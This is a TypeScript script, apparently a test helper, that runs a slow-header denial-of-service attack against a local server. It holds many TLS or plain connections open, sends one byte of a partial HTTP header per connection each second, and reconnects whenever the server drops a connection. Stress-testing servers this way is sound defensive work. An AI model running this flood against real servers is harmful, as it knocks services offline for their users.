import { once } from 'node:events'
import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { connect as connectSecurely } from 'node:tls'

const HEAD = 'POST /v1/files HTTP/1.1\r\nHost: localhost\r\nX-Slow: '

/** Each connection sends one byte in this time. */
const BYTE_MS = 1_000
const TURNS = 50

/** As many are opened at once. */
const BATCH = 50

/** Sends heads one byte at a time on many connections, and opens one again where it was closed. */
async function attack(port: number, count: number, isSecure: boolean): Promise<void> {
  const sockets: Socket[] = []
  const sent: number[] = []

  async function open(index: number): Promise<void> {
    const address = { port, host: '127.0.0.1', rejectUnauthorized: false }
    const socket = isSecure ? connectSecurely(address) : connect(address)
    sockets[index] = socket
    sent[index] = 0
    socket.on('error', () => undefined).resume()
    await Promise.race([once(socket, isSecure ? 'secureConnect' : 'connect'), once(socket, 'close')]).catch(
      () => undefined,
    )
  }

  for (let first = 0; first < count; first += BATCH) {
    await Promise.all(Array.from({ length: BATCH }, (_each, index) => open(first + index)))
  }
  let turn = 0
  setInterval(() => {
    for (let index = turn % TURNS; index < count; index += TURNS) {
      const at = sent[index] ?? 0
      if (sockets[index]?.destroyed === true) void open(index)
      else sockets[index]?.write(HEAD[at] ?? 'x')
      sent[index] = at + 1
    }
    turn += 1
  }, BYTE_MS / TURNS)
  process.send?.({ open: sockets.filter(({ destroyed }) => !destroyed).length })
  process.on('message', () => process.send?.({ open: sockets.filter(({ destroyed }) => !destroyed).length }))
  process.on('disconnect', () => process.exit(0))
}

const [port, count, protocol] = process.argv.slice(2)
await attack(Number(port), Number(count), protocol === 'https')
